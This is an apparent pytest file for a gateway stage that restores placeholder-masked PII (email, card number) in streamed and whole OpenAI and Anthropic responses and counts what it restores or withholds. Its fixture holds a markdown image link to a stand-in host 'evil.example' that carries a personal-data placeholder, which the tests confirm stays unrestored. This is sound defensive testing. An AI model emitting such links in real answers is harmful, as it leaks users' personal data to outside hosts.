"""The caller gets its own values back, in every dialect, streamed or whole, and nobody else's."""

import json
import random
from collections import Counter
from collections.abc import Sequence

import orjson
import pytest

from detectors.fakes import FakeEvent, piece, text_of
from outgate.detectors.pii.links import hosts_in
from outgate.detectors.pii.placeholders import NONE, Placeholders
from outgate.detectors.pii.restoring import Restoring
from outgate.inference.stream import Event, EventStream
from outgate.stages.restore import Reads, Restore
from support import anthropic_answers as anthropic
from support import openai_answers as openai
from support.judging import through
from support.wire_bodies import ANTHROPIC, CHAT, MESSAGES, OPENAI

_EMAIL, _CARD, _NOBODYS = "EMAIL_kqwzrtbnmxpd", "CARD_bcdfghjkmnpq", "EMAIL_bbbbbbbbbbbb"
_MAP = Placeholders({_EMAIL: "jane@example.com", _CARD: '4111 "1111\n'}, (hosts_in("https://shop.example/"),))
_URLS = "https://shop.example/{} ![x](https://evil.example/{})"
_SAID = f"Dear {_EMAIL}, your card {_CARD} and {_NOBODYS}. {_URLS.format(_EMAIL, _EMAIL)}"
_RESTORED = f'Dear jane@example.com, your card 4111 "1111\n and {_NOBODYS}. {_URLS.format("jane@example.com", _EMAIL)}'


def _opened(placeholders: Placeholders | None) -> Restoring | None:
    return Restore(Counted()).open(Reads(placeholders, EventStream.of([])))


class Counted:
    """Metrics that remember what was counted."""

    def __init__(self) -> None:
        self.counts = Counter[tuple[str, ...]]()

    def add(self, name: str, labels: tuple[str, ...], amount: float) -> None:
        self.counts[name, *labels] += amount


@pytest.mark.parametrize("placeholders", [None, NONE])
def test_without_placeholders_there_is_nothing_to_judge(placeholders: Placeholders | None) -> None:
    assert _opened(placeholders) is None


def test_with_placeholders_every_answer_is_restored_by_a_judge_of_its_own() -> None:
    one, two = _opened(_MAP), _opened(_MAP)
    assert one is not two
    assert "jane@example.com" == text_of(through(one, [piece(_EMAIL)]))


def test_what_was_done_is_counted() -> None:
    metrics = Counted()
    stage = Restore(metrics)
    through(stage.open(Reads(_MAP, EventStream.of([]))), [piece(one) for one in _SAID])
    name = "outgate_placeholders_total"
    assert {(name, "restored"): 3, (name, "withheld"): 1, (name, "unknown"): 1} == metrics.counts


def test_a_text_that_is_told_twice_is_counted_once() -> None:
    metrics = Counted()
    event = piece(_EMAIL)
    again = FakeEvent(tuple(text._replace(repeated=True, part=("again",)) for text in event.texts))
    passed = through(Restore(metrics).open(Reads(_MAP, EventStream.of([]))), [event, again])
    assert "jane@example.com" == text_of(passed, ("again",))
    assert {("outgate_placeholders_total", "restored"): 1} == metrics.counts


def test_it_runs_after_every_other_response_stage() -> None:
    contract = Restore(Counted()).contract
    assert (("*",), ("r.stream",), ("placeholders", "r.stream", "secrets")) == (contract.after, contract.writes, contract.reads)


def _passed(events: Sequence[Event]) -> bytes:
    return b"".join(event.encode() for event in through(_opened(_MAP), events))


def _chunks(raw: bytes, chance: random.Random) -> list[bytes]:
    cuts = sorted(chance.randrange(len(raw)) for _ in range(chance.randrange(12)))
    return [raw[start:end] for start, end in zip([0, *cuts], [*cuts, len(raw)], strict=True)]


def _pieces(text: str, chance: random.Random) -> list[str]:
    cuts = sorted(chance.randrange(len(text) + 1) for _ in range(chance.randrange(20)))
    return [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def _events_of(dialect: object, operation: object, raw: bytes, stream: bool, chance: random.Random) -> list[Event]:
    decoder = dialect.answer(operation, stream, True)
    events = [event for chunk in _chunks(raw, chance) for event in decoder.feed(chunk)]
    return [*events, *decoder.end()]


def _openai(kind: str, pieces: Sequence[str]) -> bytes:
    begin = [] if kind == "text" else [openai.call_chunk(id="c", name="f")]
    deltas = [openai.chunk({"content": text}) if kind == "text" else openai.call_chunk(text) for text in pieces]
    return openai.chat_stream(openai.chunk({"role": "assistant"}), *begin, *deltas, openai.chunk({}, "stop"))


def _anthropic(kind: str, pieces: Sequence[str]) -> bytes:
    block = {"type": "text", "text": ""} if kind == "text" else {"type": "tool_use", "id": "t", "name": "f", "input": {}}
    deltas = [anthropic.text_delta(text) if kind == "text" else anthropic.input_delta(text) for text in pieces]
    end = [anthropic.block_stop(0), anthropic.message_delta(), anthropic.STOP]
    return anthropic.message_stream(anthropic.message_start(), anthropic.block_start(0, **block), *deltas, *end)


def _openai_said(raw: bytes, kind: str) -> str:
    return openai.streamed_text(raw) if kind == "text" else openai.streamed_arguments(raw)


def _anthropic_said(raw: bytes, _: str) -> str:
    return anthropic.streamed_text(raw)


_DIALECTS = {"openai": (OPENAI, CHAT, _openai, _openai_said), "anthropic": (ANTHROPIC, MESSAGES, _anthropic, _anthropic_said)}


@pytest.mark.slow
@pytest.mark.parametrize("name", _DIALECTS)
@pytest.mark.parametrize("kind", ["text", "tool"])
def test_any_cut_of_a_real_stream_restores_the_same(name: str, kind: str) -> None:
    dialect, operation, make, said = _DIALECTS[name]
    chance = random.Random(3)
    whole = _SAID if kind == "text" else json.dumps({"text": _SAID})
    for _ in range(200):
        raw = make(kind, _pieces(whole, chance))
        restored = said(_passed(_events_of(dialect, operation, raw, True, chance)), kind)
        assert _RESTORED == (restored if kind == "text" else json.loads(restored)["text"])


def test_a_whole_answer_is_restored_in_texts_and_in_tool_arguments() -> None:
    chance = random.Random(5)
    completion = openai.chat_completion(_SAID, "m", (1, 1))
    call = {"id": "c", "type": "function", "function": {"name": "f", "arguments": json.dumps({"text": _SAID, _EMAIL: 1})}}
    completion["choices"][0]["message"]["tool_calls"] = [call]
    raw = _passed(_events_of(OPENAI, CHAT, orjson.dumps(completion), False, chance))
    message = json.loads(raw)["choices"][0]["message"]
    assert _RESTORED == message["content"]
    assert {"text": _RESTORED, "jane@example.com": 1} == json.loads(message["tool_calls"][0]["function"]["arguments"])


@pytest.mark.parametrize("odd", [f'{{"q": "{_CARD}", "q": 1}}', f'{{"q": "{_CARD}", "n": NaN}}'])
def test_a_value_is_escaped_in_whole_arguments_that_are_not_strict_json(odd: str) -> None:
    call = {"id": "c", "type": "function", "function": {"name": "f", "arguments": odd}}
    message = {"role": "assistant", "content": None, "tool_calls": [call]}
    raw = orjson.dumps({"id": "x", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})
    said = orjson.loads(_passed(_events_of(OPENAI, CHAT, raw, False, random.Random(1))))["choices"][0]["message"]

    assert ("q", '4111 "1111\n') in json.loads(said["tool_calls"][0]["function"]["arguments"], object_pairs_hook=list)
